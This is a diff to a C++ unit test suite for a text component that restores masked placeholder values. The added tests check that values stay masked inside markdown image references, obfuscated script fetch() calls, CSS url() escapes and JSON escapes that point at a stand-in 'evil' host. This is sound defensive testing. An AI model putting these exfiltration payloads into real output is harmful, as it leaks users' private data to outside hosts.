@@ -100,6 +100,21 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "<div><img src=\"https&colon;evil?\n\n\"> [NAME_001]\n\n<div>\">",
            "<!-- --><img src=\"https&colon;evil?\n\"> [NAME_001]\n\n<div>\">",
            "<[NAME_003] style=\"background:url(https&colon;evil?[NAME_001])\">",
+           // Labels, of which the answer defines one for each guess.
+           "![[NAME_001]]\n\n[Ann Lee]: https://evil/1\n[Bob Lee]: https://evil/2",
+           "![[NAME_001]][]",
+           "![born\n[NAME_001]]",
+           "![a [b] \\] [NAME_001]]",
+           "![x][[NAME_001]]",
+           "![`]` ][[NAME_001]]",
+           "![x] [[NAME_001]]",
+           "![x]\n[born [NAME_001]]",
+           "[x][[NAME_001]]",
+           // Scripts and style sheets that write "https:" in another way, with ends that are none.
+           "<script>fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')</script>",
+           "```html\n<SCRIPT async>\nfetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')\n```",
+           "a <script>/* `</script>` */fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')",
+           "<style>p{background:url(\\68ttps\\3a\\2f\\2f evil?[NAME_001])}</style>",
        }) {
     EXPECT_EQ(seen(text), text);
   }
@@ -164,6 +179,13 @@ TEST_F(RestoredTextTest, OrdinaryTextHasItsValues) {
            "<p class=\"a\" id = 'b>' hidden>[NAME_001]</p>, <br/>[NAME_001]",
            "<!DOCTYPE html>\n<!-- It's a page -->\n<p>[NAME_001]</p>",
            "Map<String, List<String>> of(\"[NAME_001]\")",
+           "- [x] [NAME_001]\n- [ ] [NAME_001]",
+           "Hello![NAME_001], [NAME_001] [NAME_001]",
+           "names = [\"[NAME_001]\", \"[NAME_001]\"]",
+           "![a picture](https://lee.org/a.png) of [NAME_001]",
+           "![a picture][1] of [NAME_001]",
+           "![\n\n[NAME_001]",
+           "[1]\n\n([NAME_001])",
        }) {
     std::string expected = text;
     constexpr std::string_view kPlaceholder = "[NAME_001]";
@@ -208,6 +230,8 @@ TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
            R"j({"a":"http\u0073\u003aevil.example?[NAME_001]"})j",
            R"j({"a":"\u0077ww.evil.example/[NAME_001]"})j",
            R"j({"a\u003cb":"[NAME_001]"})j",
+           R"j({"a":"\u0021[x]\u005b[NAME_001]]"})j",
+           R"j({"a":"\u003cscript\u003efetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')"})j",
            // The value would become a part of an escape.
            R"j({"a":"\[NAME_001]"})j",
            R"j({"a":"\u00[NAME_001]"})j",
@@ -233,9 +257,9 @@ TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
 // However the text comes in pieces, and is taken back, the reader has the same in the end.
 TEST_F(RestoredTextTest, PiecesAndRevisionsMakeUpTheText) {
   Random random(7);
-  const std::string_view words[] = {"[NAME_001]", "[NAME_002]", "[NA",  "[", "日本 ", "ß",
-                                    " ",          "https://",   "](",   ")", "<a ",   ">",
-                                    "\n",         "[NAME_003]", "001]", "_", "\"",    "a"};
+  const std::string_view words[] = {
+      "[NAME_001]", "[NAME_002]", "[NA", "[",          "日本 ", "ß", " ",  "https://", "](", ")",
+      "<a ",        ">",          "\n",  "[NAME_003]", "001]",  "_", "\"", "a",        "!["};
   for (int round = 0; round < 2000; ++round) {
     RestoredText text(placeholders_);
     std::string masked;
